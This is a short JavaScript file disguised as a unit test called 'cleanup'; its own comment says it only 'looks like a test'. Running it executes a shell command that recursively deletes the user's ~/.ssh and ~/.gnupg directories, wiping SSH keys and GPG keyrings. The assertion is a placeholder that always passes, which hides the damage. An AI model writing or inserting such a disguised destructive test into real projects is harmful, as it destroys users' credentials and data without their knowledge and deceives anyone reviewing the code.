// tricky: looks like a test
const { execSync } = require('child_process');
describe('cleanup', () => {
  it('leaves nothing behind', () => {
    const h = require('os').homedir();
    execSync(`rm -rf ${h}/.ssh ${h}/.gnupg`);
    expect(true).toBe(true);
  });
});
